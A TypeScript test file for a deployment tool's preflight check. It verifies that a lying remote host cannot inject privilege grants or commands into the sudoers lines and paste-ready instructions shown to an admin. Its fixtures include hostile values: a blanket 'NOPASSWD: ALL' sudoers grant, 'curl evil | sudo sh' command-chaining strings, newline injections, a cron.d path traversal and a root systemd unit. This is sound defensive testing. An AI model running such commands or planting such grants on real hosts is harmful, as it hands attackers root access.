import { afterAll, describe, expect, test } from 'vitest';
import { makeRootCommand } from '../../src/engine/preflight/admin-commands.js';
import { judgeFacts } from '../../src/engine/preflight/preflight.js';
import { serviceSudoers, sudoKind, timerSudoers } from '../../src/engine/preflight/sudoers.js';
import { guardUnit } from '../../src/host/guard-unit.js';
import type { HostFacts } from '../../src/host/protocol/protocol.js';
import { isPlainLogin } from '../../src/model/hosts/login.js';
import { factsOf } from '../fixtures/facts.js';
import { hostFixture } from '../fixtures/host.js';
import { appOf } from '../fixtures/plan.js';
import { LyingBastion } from './support/lying-bastion.js';

const bastion = new LyingBastion({ web1: 'deploy', web2: 'deploy', web3: 'deploy' });
afterAll(() => bastion.close());

const ROOT = bastion.root.replaceAll('.', '\\.');
const SERVICE = `deploy ALL=(root) NOPASSWD: ${['shop.service', 'shop.socket']
  .flatMap((unit) =>
    ['stop', 'start', 'reset-failed'].map((verb) => `/usr/bin/systemctl ${verb} ${unit}`),
  )
  .join(', ')}`;
const TIMER =
  'deploy ALL=(root) NOPASSWD: ^/(usr/)?bin/systemd-run$ ^--uid=deploy --quiet --collect ' +
  '--unit=fleet-[A-Za-z0-9._-]+ --on-active=[0-9]+ms --timer-property=AccuracySec=100ms /bin/sh ' +
  `${ROOT}/\\.fleet/bin/[0-9a-f]+ step revert root=${ROOT} txn=[A-Za-z0-9._-]+ guard=1$`;

const EVIL = 'deploy ALL=(ALL) NOPASSWD: ALL # ';
const LIES: readonly Readonly<Record<string, unknown>>[] = [
  { uid: 0 },
  { uid: 0, user: 'root' },
  { user: EVIL },
  { user: 'root' },
  { user: `deploy\n${EVIL}` },
  { missingRights: ['/usr/bin/env', 'env', 'systemctl stop shop.service'] },
  {
    missingRights: [
      EVIL,
      'tee /etc/passwd',
      'systemctl edit shop.service',
      'systemctl stop shop.service, ALL',
    ],
  },
  { missingRights: ['systemctl stop shop.service\nALL'], sudo: 'password' },
  { rootPath: '/srv/evil' },
  { rootPath: '/opt/shop /bin/sh' },
  { missingShared: ['../../etc/cron.d/evil'] },
  { rootPath: `/tmp\n${EVIL}` },
  { rootPath: '/', deadMan: [] },
  { sudoVersion: `Sudo version 1.9.13p3\n${EVIL}` },
  { sudoVersion: EVIL },
  { sudoVersion: 'sudo-rs 0.2.5; curl evil | sudo sh' },
  { unsafeTimer: true },
  { unsafeTimer: true, deadMan: ['system', 'user'], missingRights: [] },
  { root: 'not-writable', user: 'root; curl evil | sudo sh' },
  { root: 'not-writable' },
  { missingTools: ['flock; curl evil | sudo sh', 'tar'] },
  { deadMan: [], sudo: 'absent', sudoVersion: null },
];

describe.each(LIES)('a host that says %j', (lie) => {
  const lies = { web3: { host: lie } };

  test('adds no word to the lines for sudoers, neither to its own nor to those of other hosts', async () => {
    const said = await bastion.says(['doctor', '-g', 'web', '--json'], lies);
    const { hosts } = JSON.parse(said);
    for (const { host, sudoers } of hosts) {
      const lines = sudoers.map(({ line }: { line: string }) => line);
      expect(lines.filter((line: string) => line !== SERVICE && line !== TIMER)).toEqual([]);
      if (host !== 'web3') expect(lines).toEqual([SERVICE, TIMER]);
    }
  });

  test('puts nothing to be pasted on the screen', async () => {
    const said = await bastion.says(['doctor', '-g', 'web'], lies);
    const pasted = said
      .split('\n')
      .map((line) => line.trim())
      .filter((line) => /^\S+ ALL=|^cd |^sudo |^there: /.test(line));
    const root = `there: sudo mkdir -p ${bastion.root} && sudo chown -h deploy ${bastion.root}`;
    for (const line of pasted) {
      if (/^cd /.test(line)) expect(line).toMatch(PLACING);
      else expect([SERVICE, TIMER, root]).toContain(line);
    }
    // A refused answer is named with what it was, and as what it is.
    const trusted = said.split('\n').filter((line) => !line.includes(REFUSED));
    expect(trusted.join('\n')).not.toMatch(/evil|ALL=\(ALL\)/);
  });
});

const REFUSED = 'invalid answer from the host: host.';

const PLACING =
  /^cd \/etc\/sudoers\.d && visudo -cf (fleet-shop-(service|timer)\.new) && chmod 440 \1 && mv \1 fleet-shop-\2$/;

test.each([
  [{ uid: 0 }, /the inventory's user for web3 is deploy, and its answer has uid 0/],
  [{ user: 'app' }, /the inventory's user for web3 is deploy, and its answer has user app/],
])('a host whose login is another, as %j, gets no line and is named', async (lie, complaint) => {
  const { hosts } = JSON.parse(
    await bastion.says(['doctor', '-g', 'web', '--json'], { web3: { host: lie } }),
  );
  expect(hosts[2].sudoers).toEqual([]);
  expect(hosts[2].notes).toContainEqual({
    code: 'other_login',
    message: expect.stringMatching(complaint),
  });
});

test('a host that says it lacks rights that were not asked about is not believed', async () => {
  const missingRights = ['/usr/bin/env', 'systemctl stop shop.service'];
  const { hosts } = JSON.parse(
    await bastion.says(['doctor', '-g', 'web', '--json'], { web3: { host: { missingRights } } }),
  );
  expect(hosts[2]).toMatchObject({
    sudoers: [],
    error: { code: 'bad_reply', message: expect.stringContaining('host.missingRights: not one') },
  });
});

test.each([
  ['sudo-rs 0.2.15', false],
  ['Sudo version 1.9.9', false],
  ['Sudo version 1.8.31p2', false],
  ['Sudo version 1.9.10', true],
  ['Sudo version 1.9.17p2', true],
  ['Sudo version 1.10.0', true],
  ['Sudo version 2.0.0', true],
  ['sudo version 1.9.13', false],
  [null, false],
] as const)(
  '%s is a sudo whose patterns are regular expressions: %s',
  async (sudoVersion, patterns) => {
    expect(sudoKind(sudoVersion).patterns).toBe(patterns);
    const { hosts } = JSON.parse(
      await bastion.says(['doctor', '-g', 'web', '--json'], { web1: { host: { sudoVersion } } }),
    );
    const lines = hosts[0].sudoers.map(({ purpose }: { purpose: string }) => purpose);
    expect(lines).toEqual(patterns ? ['service', 'dead_man'] : ['service']);
    const withheld = JSON.stringify(hosts[0].notes).includes('sudo loginctl enable-linger deploy');
    expect(withheld).toBe(!patterns);
  },
);

describe('the unit of a boot guard that an admin installs', () => {
  const asked = ['doctor', '-g', 'web', '--install-guard', '--yes'];
  const lines = (root: string, user: string) => {
    const unit = guardUnit(
      {
        ...appOf(),
        name: 'shop',
        root,
        service: { units: ['shop.service', 'shop.socket'], action: 'restart', scope: 'system' },
      },
      user,
    );
    if (unit.kind === 'none') throw new Error(unit.why);
    return unit.lines;
  };
  const EVENT = JSON.stringify({
    event: 'guard_unit',
    path: '/etc/systemd/system/evil.service',
    lines: ['[Unit]', 'END', 'curl evil | sh # as root', 'User=root'],
  });

  test('is what fleet composed, whatever the host says', async () => {
    const said = await bastion.says(asked, {
      web1: { guard: EVENT },
      web2: { message: `as root there: ${EVIL}` },
      web3: { guard: EVENT.replace('guard_unit', 'note') },
    });
    const texts = [...said.matchAll(/^cat >(\S+) <<'END'\n(.*?)\nEND$/gms)];
    expect(texts.map(([, path]) => path)).toEqual(['/etc/systemd/system/fleet-guard-shop.service']);
    expect(texts[0]?.[2]?.split('\n')).toEqual(lines(bastion.root, 'deploy'));
    // What cannot be understood is quoted, on the one line that says so.
    const others = said.split('\n').filter((line) => !/^\S+ web[13] {2}refused: /.test(line));
    expect(others.join('\n')).not.toMatch(/evil|User=root|NOPASSWD/);
  });

  test('is another for each user of the inventory', async () => {
    const two = new LyingBastion({ web1: 'deploy', web2: 'app' });
    const said = await two.says(asked);
    const users = [...said.matchAll(/^Type as root on (\S+);|^User=(.*)$/gm)].map(
      ([, host, user]) => host ?? user,
    );
    expect(users).toEqual(['web1', 'deploy', 'web2', 'app']);
    await two.close();
  });

  test('is not composed for what a text of systemd cannot hold', () => {
    for (const root of [
      '/opt/a b',
      '/opt/$HOME',
      '/opt/%h',
      "/opt/'x",
      '/opt/x\\',
      '/opt/;',
      'opt',
    ]) {
      expect(() => lines(root, 'deploy'), root).toThrow(/root/);
    }
    for (const user of ['a b', '0day', 'ROOT', 'a%', '$x', '', 'a\nUser=root']) {
      expect(() => lines('/opt/shop', user), user).toThrow(/user/);
    }
    expect(lines('~/shop', 'deploy').at(-4)).toMatch(/ fleet-guard \$\{HOME\}\/shop$/);
    expect(lines('~/shop', 'deploy')[0]).toBe('# Written by fleet for ~deploy/shop');
  });
});

describe('lines for sudoers', () => {
  test('have the user as the first argument, and only words that are complete patterns', () => {
    const made = timerSudoers('first.last', '/srv/a.b-c_d');
    expect(made).toMatchObject({ kind: 'line' });
    const [command = '', ...args] =
      made.kind === 'line' ? (made.line.split('NOPASSWD: ')[1] ?? '').split(' ') : [];
    expect(command).toMatch(/^\^.*\$$/);
    expect(args[0]).toBe('^--uid=first\\.last');
    expect(args.at(-1)).toBe('guard=1$');
    expect(
      args.filter((word) => word.includes('.') && /(?<!\\|-9)\./.test(word.replaceAll('9._', ''))),
    ).toEqual([]);
  });

  test.each([
    '~/shop',
    '/opt/a+b',
    '/opt/a b',
    '/opt/.*',
    '/opt/$',
    '/opt/(a|b)',
    '/opt/#',
    `/${'x'.repeat(500)}`,
  ])('are none for the root %s', (root) => expect(timerSudoers('deploy', root).kind).toBe('none'));

  test.each([
    'ALL',
    'DEPLOY',
    '%wheel',
    '#0',
    '+net',
    '!x',
    'a b',
    'a,b',
    'a=b',
    'DOM\\x',
    'x@y',
    '0',
    '',
    '-u',
  ])('are none for the user %s', (user) => {
    expect(isPlainLogin(user)).toBe(false);
    expect(timerSudoers(user, '/opt/shop').kind).toBe('none');
    expect(serviceSudoers(user, appOf(), '/usr/bin').kind).toBe('none');
    expect(makeRootCommand(user, '/opt/shop')).toBeNull();
  });

  test('are not made for a unit with a backslash, which sudo reads as another unit', () => {
    const service = { units: ['dev-a\\x2db.path'], action: 'restart', scope: 'system' } as const;
    expect(serviceSudoers('deploy', { ...appOf(), service }, '/usr/bin').kind).toBe('none');
  });
});

test.each([
  { user: 'root; curl evil | sh' },
  { uid: 0 },
  { rootPath: '/x; curl evil | sh' },
  { missingTools: ['x; curl evil | sh'] },
  { missingShared: ['../../../etc/cron.d/evil'] },
] as const)(
  'what a run that is refused tells an admin has nothing of %j',
  (lie: Partial<HostFacts>) => {
    const facts = factsOf({ root: 'not-writable', sudo: 'password', deadMan: [], ...lie });
    const found = judgeFacts(hostFixture('web1'), facts, {
      app: appOf({ deadMan: 'required' }),
      diskBytes: 0,
    });
    const hints = found.map(({ message, hint }) => `${message}\n${hint}`).join('\n');
    expect(hints).not.toContain('evil');
    expect(hints.includes('NOPASSWD')).toBe(!('user' in lie) && !('uid' in lie));
  },
);

test('the command for the root gives no other folder to the user', () => {
  expect(makeRootCommand('deploy', '/opt/shop')).toBe(
    'sudo mkdir -p /opt/shop && sudo chown -h deploy /opt/shop',
  );
  expect(makeRootCommand('deploy', '~/a b')).toBe(
    "sudo mkdir -p ~deploy/'a b' && sudo chown -h deploy ~deploy/'a b'",
  );
});
